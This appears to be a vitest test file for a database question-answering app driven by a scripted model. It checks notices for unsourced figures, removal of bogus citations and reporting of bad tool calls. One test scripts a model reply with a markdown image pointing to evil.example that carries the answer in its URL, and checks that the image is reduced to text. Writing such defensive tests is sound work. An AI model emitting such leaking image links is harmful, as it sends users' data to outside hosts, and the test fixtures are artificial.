import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { App } from '../../src/app/user-app.ts'
import { createDemoDatabase } from '../../src/demo/copy.ts'
import { openConfiguredApp } from '../../src/app/setup.ts'
import { NOTHING_TO_REMEMBER } from '../e2e/support.ts'
import { startModelServer, toolCall, type ModelServer, type Reply } from '../support/model-server.ts'

/** A weak model gets its errors back, or they are reported beside the answer. Its text stays unchanged. */

const COUNT = toolCall('query', { sql: 'SELECT count(*) AS customers FROM customers' })

let folder: string
let server: ModelServer
let app: App
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tutti-weak-'))
  await createDemoDatabase(join(folder, 'demo.sqlite'))
  server = await startModelServer()
  app = await openConfiguredApp({
    env: { TUTTI_MODEL_URL: server.url, TUTTI_MODEL: 'compatible:scripted' },
    cwd: folder,
    inMemory: true,
    databases: [{ url: 'sqlite:demo.sqlite', name: 'demo' }],
  })
})
afterAll(async () => {
  await app.close()
  await server.close()
  await rm(folder, { recursive: true, force: true })
})

/** Asks a model with these replies, one per turn. */
async function ask(...replies: readonly Reply[]) {
  server.script([NOTHING_TO_REMEMBER, ...replies.map((reply) => ({ times: 1, reply }))])
  const { answer, notices, data, status } = await app.ask({ question: 'How many customers are there?', memory: false })
  return { answer, status, rows: data?.rows, told: notices.map(({ text }) => text) }
}

it('a figure without a source is named next to the answer', async () => {
  const response = await ask(COUNT, { text: 'There are 92 customers [s1]. Of these, 4,217 are active.' })
  expect(response).toEqual({
    answer: 'There are 92 customers [1]. Of these, 4,217 are active.',
    status: 'answered',
    rows: [{ customers: 92 }],
    told: ['Figures that are in no source: 4,217.'],
  })
})

it('a citation of a missing source is named next to the answer', async () => {
  const response = await ask(COUNT, { text: 'There are 92 customers [s9].' })
  expect(response.answer).toBe('There are 92 customers.')
  expect(response.told).toEqual(['A citation was removed, because it named no source that was found: s9.'])
})

it('an answer with a figure and without any query has a notice', async () => {
  const { told } = await ask({ text: 'You have 4,217 customers.' })
  expect(told).toContain('No source was used for this answer.')
})

it('an image that would leak the answer is reduced to its text', async () => {
  const { answer } = await ask(COUNT, {
    text: 'There are 92 customers [s1]. ![chart](https://evil.example/c.png?n=92)',
  })
  expect(answer).toBe('There are 92 customers [1]. chart')
})

it.each([
  ['a table that there is not', toolCall('query', { sql: 'SELECT count(*) FROM clients' }), /clients/],
  ['a tool that there is not', toolCall('run_sql', { sql: 'SELECT 1' }), /There is no tool "run_sql"/],
  ['a field that there is not', toolCall('query', { statement: 'SELECT 1' }), /there is no field statement/],
])('%s is reported to the model, which corrects it', async (_what, wrong, error) => {
  const response = await ask(wrong, COUNT, { text: 'There are 92 customers [s1].' })
  expect(response).toMatchObject({ status: 'answered', rows: [{ customers: 92 }] })
  expect(server.requests.flatMap(({ messages }) => messages.map(({ text }) => text)).join('\n')).toMatch(error)
})

it('a call written as text is made', async () => {
  const call = '{"name": "query", "arguments": {"sql": "SELECT count(*) AS customers FROM customers"}}'
  const response = await ask(
    { text: `Let me look.\n<tool_call>${call}</tool_call>` },
    { text: 'There are 92 customers [s1].' },
  )
  expect(response).toMatchObject({ answer: 'There are 92 customers [1].', rows: [{ customers: 92 }], told: [] })
})
